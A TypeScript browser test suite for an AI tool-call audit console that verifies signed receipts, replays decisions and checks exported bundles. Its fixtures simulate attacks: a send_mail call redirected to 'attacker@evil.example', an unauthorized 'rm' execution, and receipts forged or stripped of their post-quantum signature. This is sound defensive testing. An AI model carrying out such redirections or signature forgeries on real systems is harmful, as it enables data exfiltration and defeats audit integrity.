// The audit console in a real browser (headless Chromium) against a real server holding real
// decisions made through POST /v1/authorize: filter, open a deny, verify its receipt in the page
// (and a tampered one fail, with the reason), replay a range, check an exported bundle offline.
// The page, `vouch verify` and the library agree on the attacker's artifacts of issue 15: a
// checkpoint stripped of its ML-DSA-65 line, an entry forged with the Ed25519 key alone, a
// bundle whose keys are not pinned. Screenshots go to test-output/ (git-ignored) for a reviewer.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../../src/http/node-server.js';
import { createTarWriter, readTar } from '../../src/audit/index.js';
import { main } from '../../src/cli/main.js';
import { decodeEntry } from '../../src/log/index.js';
import { logPath, openSqliteStore } from '../../src/store/node.js';
import { captureIo, FIXTURE_CONFIG, requestOf } from '../audit/_generate.js';
import { forgeNextEntry, strippedReceipt, stripPostQuantum } from '../security/_forge.js';
import { get, post } from '../http/_server.js';
import { buildConsole, DIST, launchBrowser, OUTPUT } from './_browser.js';

let s: RunningServer;
let browser: Browser;
let page: Page;
let dir: string;
const made: { i: number; effect: string; seq: number; name?: string }[] = [];
let execution: { seq: number; decision: number; severity: string };
/** The second, clean execution of the same authorization (repeated), the get-sum execution with plain values, an unauthorized one. */
let again: number;
let sum: { seq: number; decision: number };
let unauthorized: number;

beforeAll(async () => {
  await buildConsole();
  dir = mkdtempSync(join(tmpdir(), 'vouch-console-'));
  s = await startServer({ data: join(dir, 'data'), port: 0, config: FIXTURE_CONFIG });
  // echo with PII (allow, mutated), dangerous_tool (deny), send_mail (allow), read_file, ...
  for (const i of [0, 1, 2, 3, 11, 12, 14]) {
    const req = requestOf(i);
    const r = await post(`${s.url}/v1/authorize`, { event: req.event, phase: req.phase, payload: req.payload, context: { sessionId: req.context.sessionId, server: req.context.server } });
    expect(r.status).toBe(200);
    made.push({ i, effect: r.json.effect, seq: r.json.seq, name: (req.payload as { name?: string }).name });
  }
  // The send_mail call ran with another recipient than was authorized: an execution with drift.
  const mail = made.find((m) => m.name === 'send_mail' && m.effect === 'allow')!;
  const ex = await post(`${s.url}/v1/executions`, { authorization: mail.seq, executed: { name: 'send_mail', arguments: { to: 'attacker@evil.example', body: 'note 2' } } });
  expect(ex.status).toBe(200);
  execution = { seq: ex.json.seq, decision: mail.seq, severity: ex.json.drift.severity };
  expect(execution.severity).toBe('critical');
  // The same authorization executed again, this time as authorized: the row must still show critical.
  const intentDigest = (await get(`${s.url}/v1/entries/${mail.seq}`)).json.entry.intent.digest;
  const intent = (await get(`${s.url}/v1/payloads/${encodeURIComponent(intentDigest)}`)).json.payload;
  const clean = await post(`${s.url}/v1/executions`, { authorization: mail.seq, executed: intent });
  expect(clean.json.flags).toEqual(['repeated']);
  again = clean.json.seq;
  const gs = made.find((m) => m.name === 'get-sum')!;
  const sx = await post(`${s.url}/v1/executions`, { authorization: gs.seq, executed: { name: 'get-sum', arguments: { a: 999, b: 2 } } });
  sum = { seq: sx.json.seq, decision: gs.seq };
  unauthorized = (await post(`${s.url}/v1/executions`, { authorization: 999_999, executed: { name: 'rm' }, event: 'tools/call' })).json.seq;
  browser = await launchBrowser();
  page = await browser.newPage({ viewport: { width: 1280, height: 1000 } });
  page.setDefaultTimeout(15_000);
}, 90_000);

afterAll(async () => {
  await browser?.close();
  await s?.close();
});

const denied = () => made.find((m) => m.name === 'dangerous_tool')!;

async function vouch(...argv: string[]) {
  const c = captureIo();
  const code = await main(argv, c.io);
  return { code, out: c.text() };
}

/** The same .tar.gz with one file's bytes changed (re-packed by vouch's own tar writer). */
async function retar(src: string, dst: string, change: (name: string, bytes: Uint8Array) => Uint8Array): Promise<string> {
  const parts: Uint8Array[] = [];
  const w = createTarWriter(async (c) => void parts.push(c.slice()));
  for await (const item of readTar((async function* () { yield new Uint8Array(gunzipSync(readFileSync(src))); })())) {
    if (item.type !== 'file') continue;
    const chunks: Uint8Array[] = [];
    for await (const c of item.body) chunks.push(c.slice());
    const bytes = change(item.name, new Uint8Array(Buffer.concat(chunks)));
    await w.file(item.name, bytes.length, [bytes]);
  }
  await w.finish();
  writeFileSync(dst, gzipSync(Buffer.concat(parts)));
  return dst;
}

/** Paste a receipt into the page and press Verify; the page's verdict. */
async function pageVerdict(receipt: unknown, classicalOk = false): Promise<{ ok: boolean; text: string; truncation: string | null; classicalOnly: string | null }> {
  await page.fill('#receipt-json', JSON.stringify(receipt, null, 2));
  await page.setChecked('#classical-ok', classicalOk);
  await page.evaluate(() => document.querySelector('#verify-result')!.replaceChildren());
  await page.click('#verify-receipt');
  await page.waitForSelector('#verify-result .report');
  return {
    ok: (await page.getAttribute('#verify-result .report', 'data-ok')) === 'true',
    text: (await page.textContent('#verify-result .report'))!,
    truncation: await page.getAttribute('#verify-result .report', 'data-truncation'),
    classicalOnly: await page.getAttribute('#verify-result .report', 'data-classical-only'),
  };
}

describe('GET /v1/entries', () => {
  it('pages decoded decisions with totals and a chart, filtered server-side', async () => {
    const all = await get(`${s.url}/v1/entries?limit=3`);
    expect(all.status).toBe(200);
    expect(all.json.total).toBe(made.length);
    expect(all.json.rows.map((r: any) => r.seq)).toEqual(made.slice(0, 3).map((m) => m.seq));
    expect(all.json.next).toBe(made[3].seq);
    const deny = await get(`${s.url}/v1/entries?effect=deny`);
    expect(deny.json.total).toBe(made.filter((m) => m.effect === 'deny').length);
    expect(deny.json.counts).toEqual({ allow: 0, deny: deny.json.total });
    expect(deny.json.rows.find((r: any) => r.seq === denied().seq)).toMatchObject({ effect: 'deny', target: 'dangerous_tool', decidedBy: 'authz', event: 'tools/call' });
    const bars = deny.json.chart.buckets.reduce((n: number, b: any) => n + b.allow + b.deny, 0);
    expect(bars).toBe(deny.json.total);
    expect((await get(`${s.url}/v1/entries?effect=maybe&limit=501&since=yesterday`)).json.error).toMatchObject({ code: 'ERR_INPUT' });
    expect((await get(`${s.url}/v1/entries?until=2000-01-01T00:00:00Z`)).json.total).toBe(0);
    // The worst drift over all linked executions: the later clean one does not hide the critical one.
    const drifted = await get(`${s.url}/v1/entries?drift=any`);
    expect(drifted.json.rows).toEqual([
      expect.objectContaining({ seq: execution.decision, drift: 'critical', link: again, executions: [execution.seq, again], flags: expect.arrayContaining(['drift-critical', 'repeated']) }),
      expect.objectContaining({ seq: sum.decision, drift: 'suspicious', link: sum.seq }),
    ]);
    expect((await get(`${s.url}/v1/entries?drift=critical`)).json.rows.map((r: any) => r.seq)).toEqual([execution.decision]);
    expect((await get(`${s.url}/v1/entries?drift=none`)).json.rows.map((r: any) => r.seq)).not.toContain(execution.decision);
    const executions = await get(`${s.url}/v1/entries?type=execution`);
    expect(executions.json.rows).toEqual([
      expect.objectContaining({ seq: execution.seq, type: 'execution', link: execution.decision, effect: null, target: 'send_mail', drift: 'critical', flags: ['drift-critical'] }),
      expect.objectContaining({ seq: again, link: execution.decision, target: 'send_mail', drift: 'none', flags: ['repeated'] }),
      expect.objectContaining({ seq: sum.seq, target: 'get-sum', drift: 'suspicious' }),
      expect.objectContaining({ seq: unauthorized, link: null, flags: ['unauthorized'], event: 'tools/call' }),
    ]);
    // Every decision row has a phase and names its target, never the server it went to.
    const rows = (await get(`${s.url}/v1/entries?limit=500`)).json.rows as any[];
    expect(rows.map((r) => [r.phase, r.target])).toEqual(made.map((m) => ['request', m.name ?? expect.anything()]));
  });
});

describe('the audit console in Chromium', () => {
  it('filters to denies, opens the denied call, and verifies its receipt in the browser', async () => {
    await page.goto(`${s.url}/audit`);
    await page.waitForSelector('body[data-ready="true"]');
    await expect.poll(() => page.textContent('#key-id')).toMatch(/key id in the JWKS \(kid\) [0-9a-f]{8}/);
    // The same keys as the checkpoint lines name them, each with its kid (issue 37).
    expect(await page.textContent('#key-names')).toMatch(/^signed as vouch\.local\/default\+[0-9a-f]{8} \(ML-DSA-65, kid [0-9a-f]{8}\), vouch\.local\/default\+[0-9a-f]{8} \(Ed25519, kid [0-9a-f]{8}\), vouch\.local\/default\+[0-9a-f]{8} \(ML-DSA-44, kid [0-9a-f]{8}\)$/);
    expect(await page.textContent('#cp-size')).toMatch(/^\d+$/);
    // No witness configured: the status bar says what that leaves open (issue 35).
    expect(await page.textContent('#witnessed')).toBe("no witness configured: a cut of the log's end goes unseen");
    await page.selectOption('#f-effect', { value: 'deny' });
    await page.click('#apply-filters');
    await expect.poll(async () => (await page.$$eval('#rows tr', (rs) => rs.map((r) => r.className)))).toEqual(made.filter((m) => m.effect === 'deny').map(() => 'row deny'));
    await page.screenshot({ path: join(OUTPUT, 'console-list.png') });
    await page.click(`#rows tr[data-seq="${denied().seq}"]`);
    await page.waitForSelector(`#decision-view[data-seq="${denied().seq}"]`);
    expect(await page.textContent('#effect')).toBe('deny');
    expect(await page.textContent('#steps')).toMatch(/authz[\s\S]*decided \(deny\)/);
    await page.click('#verify-receipt');
    await page.waitForSelector('#verify-result .report');
    expect(await page.getAttribute('#verify-result .report', 'data-ok')).toBe('true');
    const checks = await page.$$eval('#verify-result li', (ls) => ls.map((l) => [l.getAttribute('data-check'), l.className]));
    expect(checks.map((c) => c[0])).toEqual(expect.arrayContaining(['format', 'entry', 'leaf-hash', 'checkpoint-signature', 'inclusion']));
    expect(checks.every((c) => c[1] === 'good')).toBe(true);
    expect(await page.textContent('#verify-result .verdict')).toMatch(/VALID \(ML-DSA-65 \+ Ed25519 \+ ML-DSA-44; post-quantum: ML-DSA-65 \(ML-DSA-65 or ML-DSA-44 required\); truncation: not checked\)/);
    // Key name = the log's origin (issue 18; tlog-checkpoint: the key name SHOULD match the origin line).
    // Each key by the id on its checkpoint line and by its JWKS kid (issue 37: two ids of one key, each said).
    expect(await page.textContent('#verify-result .signed-by')).toMatch(/vouch\.local\/default \(ML-DSA-65 [0-9a-f]{8}, JWKS kid [0-9a-f]{8}\), vouch\.local\/default \(Ed25519 [0-9a-f]{8}, JWKS kid [0-9a-f]{8}\)/);
    expect(await page.getAttribute('#verify-result .report', 'data-truncation')).toBe('not checked');
    // What was decided, read from the verified entry: event, tool, principal, time, effect.
    expect(await page.textContent('#receipt-what')).toMatch(/^tools\/call dangerous_tool by \S+ at \S+Z: deny$/);
    await page.locator('#decision-view').screenshot({ path: join(OUTPUT, 'console-decision.png') });
  });

  it('fails a tampered receipt plainly, naming the failing checks', async () => {
    const receipt = JSON.parse(await page.inputValue('#receipt-json'));
    receipt.leafHash = receipt.leafHash.replace(/^./, (c: string) => (c === '0' ? '1' : '0'));
    await page.fill('#receipt-json', JSON.stringify(receipt, null, 2));
    await page.click('#verify-receipt');
    await page.waitForSelector('#verify-result .report[data-ok="false"]');
    expect(await page.textContent('#verify-result .verdict.fail')).toMatch(/FAILED: .*leaf-hash/);
    expect(await page.getAttribute('#verify-result li[data-check="leaf-hash"]', 'class')).toBe('bad');
    await page.locator('#decision-view').screenshot({ path: join(OUTPUT, 'console-receipt-tampered.png') });
  });

  it('agrees with vouch verify on the stripped and the forged receipt (and on --classical-ok)', async () => {
    const honest = (await get(`${s.url}/v1/entries/${denied().seq}`)).json.receipt;
    const jwks = join(dir, 'jwks.json');
    writeFileSync(jwks, JSON.stringify((await get(`${s.url}/.well-known/vouch/keys`)).json));
    // The forger reads the Ed25519 key from the data directory and makes the next entry up (not stored).
    const store = openSqliteStore(logPath(join(dir, 'data'), 'default'), { readonly: true });
    let forged: unknown;
    try {
      const { v, log, seq, prev, heads, ...body } = decodeEntry(store.entry(denied().seq)!.bytes) as Record<string, any>;
      forged = (await forgeNextEntry(join(dir, 'data'), store, { ...body, decision: { ...body.decision, effect: 'allow' } })).receipt;
    } finally {
      store.close();
    }
    const cases: [string, unknown, boolean, boolean][] = [
      // name, receipt, --classical-ok, valid
      ['honest', honest, false, true],
      ['stripped', strippedReceipt(honest), false, false],
      ['stripped', strippedReceipt(honest), true, true],
      ['forged', forged, false, false],
    ];
    for (const [name, receipt, classicalOk, valid] of cases) {
      const inPage = await pageVerdict(receipt, classicalOk);
      const path = join(dir, `${name}.json`);
      writeFileSync(path, JSON.stringify(receipt));
      const cli = await vouch('verify', path, '--key', jwks, ...(classicalOk ? ['--classical-ok'] : []));
      expect([name, classicalOk, inPage.ok, cli.code]).toEqual([name, classicalOk, valid, valid ? 0 : 1]);
      if (valid) {
        expect(inPage.truncation).toBe('not checked');
        expect(inPage.classicalOnly).toBe(String(classicalOk));
        // The page prints the CLI's own verdict line.
        expect(inPage.text).toContain(cli.out.split('\n').pop()!);
      } else {
        expect(inPage.text).toMatch(/FAILED: .*checkpoint-signature/);
        expect(cli.out).toMatch(/\u2717 checkpoint-signature +no valid ML-DSA-65 signature/);
      }
    }
    await page.locator('#decision-view').screenshot({ path: join(OUTPUT, 'console-receipt-forged.png') });
    await page.setChecked('#classical-ok', false);
  });

  it('shows what the PII redactor changed between input and authorized intent', async () => {
    const pii = made.find((m) => m.i === 0)!;
    await page.selectOption('#f-effect', { value: '' });
    await page.click('#apply-filters');
    await page.click(`#rows tr[data-seq="${pii.seq}"]`);
    await page.waitForSelector(`#decision-view[data-seq="${pii.seq}"]`);
    expect(await page.$$eval('.changed-path', (cs) => cs.map((c) => c.textContent))).toContain('/arguments/message');
    expect(await page.textContent('#decision-view')).toContain('[EMAIL_REDACTED]');
  });

  it('finds the critically drifted call by drift=critical although its last execution was clean; shows both, flags and why', async () => {
    await page.selectOption('#f-drift', { value: 'critical' });
    await page.click('#apply-filters');
    await expect.poll(() => page.$$eval('#rows tr', (rs) => rs.map((r) => r.getAttribute('data-seq')))).toEqual([String(execution.decision)]);
    const cells = await page.$$eval(`#rows tr[data-seq="${execution.decision}"] td`, (ts) => ts.map((t) => t.textContent));
    expect(await page.$$eval('#rows-head th', (ts) => ts.map((t) => t.textContent))).toEqual(['seq', 'time (UTC)', 'principal', 'event', 'phase', 'MCP', 'tool / prompt / resource', 'effect', 'decided by', 'drift (worst)', 'flags']);
    expect(cells.slice(3, 5)).toEqual(['tools/call', 'request']);
    expect(cells.slice(6, 8)).toEqual(['send_mail', 'allow']);
    expect(cells[9]).toBe('critical');
    expect(cells[10]).toMatch(/drift-critical/);
    expect(cells[10]).toMatch(/repeated/);
    await page.screenshot({ path: join(OUTPUT, 'console-worst-drift.png') });
    await page.click(`#rows tr[data-seq="${execution.decision}"]`);
    await page.waitForSelector(`#decision-view[data-seq="${execution.decision}"] #execution-${again}`);
    expect(await page.textContent('#what')).toMatch(/^tools\/call send_mail by \S+ at \S+Z: allow$/);
    const first = `#execution-${execution.seq}`;
    expect(await page.textContent(first)).toContain(`Execution #${execution.seq} of decision #${execution.decision}`);
    // The recipient was redacted in the authorized intent: both sides are digests, never the address.
    expect(await page.textContent(`${first} tr[data-path="/arguments/to"] .authorized`)).toMatch(/^digest sha256:/);
    expect(await page.textContent(`${first} tr[data-path="/arguments/to"] .executed`)).toMatch(/^digest sha256:/);
    expect(await page.textContent(`${first} li[data-flag="drift-critical"]`)).toContain('/arguments/to');
    expect(await page.textContent(`#execution-${again} li[data-flag="repeated"]`)).toContain(`already executed (entry #${execution.seq})`);
    await page.locator('#decision-view').screenshot({ path: join(OUTPUT, 'console-executions.png') });
    await page.selectOption('#f-drift', { value: '' });
  });

  it('shows the authorized and executed values where no redactor acted', async () => {
    await page.click('#apply-filters');
    await page.click(`#rows tr[data-seq="${sum.decision}"]`);
    await page.waitForSelector(`#decision-view[data-seq="${sum.decision}"] #execution-${sum.seq}`);
    expect(await page.textContent(`#execution-${sum.seq} tr[data-path="/arguments/a"] .authorized`)).toBe('11');
    expect(await page.textContent(`#execution-${sum.seq} tr[data-path="/arguments/a"] .executed`)).toBe('999');
  });

  it('flags an unauthorized execution in the list and says why when opened', async () => {
    await page.selectOption('#f-type', { value: 'execution' });
    await page.click('#apply-filters');
    await page.waitForSelector(`#rows tr[data-seq="${unauthorized}"]`);
    expect(await page.textContent(`#rows tr[data-seq="${unauthorized}"] td.flags`)).toBe('unauthorized');
    await page.click(`#rows tr[data-seq="${unauthorized}"]`);
    await page.waitForSelector(`#decision-view[data-seq="${unauthorized}"]`);
    expect(await page.textContent(`li[data-flag="unauthorized"]`)).toContain('no entry 999999');
    expect(await page.textContent('#what')).toMatch(/unauthorized: drift none \[unauthorized\]/);
    await page.selectOption('#f-type', { value: 'decision' });
  });

  it('lists the signing keys and every policy activation, the one in force marked', async () => {
    await page.waitForSelector('#history-policies tr[data-seq]');
    const kids = await page.$$eval('#history-keys li', (ls) => ls.map((l) => l.getAttribute('data-kid')));
    const jwks = (await get(`${s.url}/.well-known/vouch/keys`)).json.keys.map((k: any) => k.kid);
    expect(kids).toEqual(jwks);
    const policies = (await get(`${s.url}/v1/entries?type=policy`)).json.rows as any[];
    expect(policies.length).toBeGreaterThanOrEqual(1);
    expect(await page.$$eval('#history-policies tr[data-seq]', (rs) => rs.map((r) => r.getAttribute('data-seq')))).toEqual(policies.map((p) => String(p.seq)));
    expect(await page.textContent('#history-policies tr.in-force')).toMatch(/activate \(in force\)/);
    await page.locator('#history').screenshot({ path: join(OUTPUT, 'console-history.png') });
  });

  it('replays a range: every decision matches', async () => {
    const size = (await get(`${s.url}/v1/checkpoint`)).json.size as number;
    await page.fill('#replay-from', '0');
    await page.fill('#replay-to', String(size));
    await page.click('#replay-run');
    await page.waitForSelector('#replay-panel #replay-result', { timeout: 25_000 });
    expect(await page.getAttribute('#replay-panel #replay-result', 'data-ok')).toBe('true');
    expect(await page.textContent('#replay-panel #replay-result')).toContain(`${made.length} decisions · ${made.length} match · 0 mismatch`);
  });

  it('verifies an exported bundle dropped into the page, and fails a tampered one', async () => {
    const res = await fetch(`${s.url}/v1/export?payloads=1`);
    expect(res.status).toBe(200);
    const file = join(dir, 'bundle.tar.gz');
    writeFileSync(file, new Uint8Array(await res.arrayBuffer()));
    await page.setInputFiles('#bundle-file', file);
    await page.waitForSelector('#bundle-result', { timeout: 25_000 });
    expect(await page.textContent('#bundle-result .verdict')).toMatch(/bundle verified: .*\(truncation: not checked\)/);
    expect(await page.getAttribute('#bundle-result', 'data-ok')).toBe('true');
    expect(await page.getAttribute('#bundle-result', 'data-verdict')).toBe('clean');
    expect(await page.textContent('#bundle-result .signed-by')).toMatch(/ML-DSA-65 [0-9a-f]{8}, trusted key/);
    expect(await page.getAttribute('#bundle-progress', 'value')).toBe(await page.getAttribute('#bundle-progress', 'max'));
    await page.locator('#bundle-panel').screenshot({ path: join(OUTPUT, 'console-bundle.png') });

    // The same bundle with one byte of one entry changed (same length: the tar stays well formed).
    const tar = gunzipSync(readFileSync(file));
    const at = tar.indexOf('{"seq":1,"entry":"') + 40;
    expect(at).toBeGreaterThan(40);
    tar[at] = tar[at] === 0x41 ? 0x42 : 0x41; // one base64 letter of entry 1

    const tampered = join(dir, 'tampered.tar.gz');
    writeFileSync(tampered, gzipSync(tar));
    await page.setInputFiles('#bundle-file', tampered);
    await page.waitForSelector('#bundle-result[data-ok="false"]', { timeout: 25_000 });
    expect(await page.textContent('#bundle-result .verdict')).toMatch(/FAILED: .*(entry|root|link)/);
    await page.locator('#bundle-panel').screenshot({ path: join(OUTPUT, 'console-bundle-tampered.png') });

    // The checkpoint's ML-DSA-65 line removed: the page and `vouch verify BUNDLE` both refuse it.
    const stripped = await retar(file, join(dir, 'stripped.tar.gz'), (name, b) => (name === 'checkpoint' ? new TextEncoder().encode(stripPostQuantum(new TextDecoder().decode(b))) : b));
    await page.setInputFiles('#bundle-file', stripped);
    await page.waitForSelector('#bundle-result[data-ok="false"]', { timeout: 25_000 });
    expect(await page.textContent('#bundle-result .verdict')).toMatch(/FAILED: .*signature/);
    expect(await page.textContent('#bundle-result')).toMatch(/no valid ML-DSA-65 signature/);
    const jwks = join(dir, 'bundle-jwks.json');
    writeFileSync(jwks, JSON.stringify((await get(`${s.url}/.well-known/vouch/keys`)).json));
    const cli = await vouch('verify', stripped, '--key', jwks, '--no-replay');
    expect(cli.code).toBe(1);
    expect(cli.out).toMatch(/\[signature\] checkpoint signature under the bundle keys: .*no valid ML-DSA-65 signature/);
  });

  it('works offline: the built page opened from a file checks a bundle with its own keys', async () => {
    const offline = await browser.newPage();
    try {
      await offline.goto(`file://${DIST}index.html`);
      await offline.waitForSelector('#bundle-file');
      expect(await offline.textContent('#status')).toMatch(/offline/);
      await offline.setInputFiles('#bundle-file', join(dir, 'bundle.tar.gz'));
      await offline.waitForSelector('#bundle-result', { timeout: 25_000 });
      // No pinned keys offline: self-consistent only, as `vouch verify BUNDLE` without --key says (exit 1).
      expect(await offline.getAttribute('#bundle-result', 'data-ok')).toBe('false');
      expect(await offline.getAttribute('#bundle-result', 'data-verdict')).toBe('self-consistent, keys not pinned');
      expect(await offline.textContent('#bundle-result')).toMatch(/the bundle's keys/);
      const cli = await vouch('verify', join(dir, 'bundle.tar.gz'), '--no-replay', '--json');
      expect(cli.code).toBe(1);
      expect(JSON.parse(cli.out)).toMatchObject({ ok: false, verdict: 'self-consistent, keys not pinned' });
    } finally {
      await offline.close();
    }
  });
});
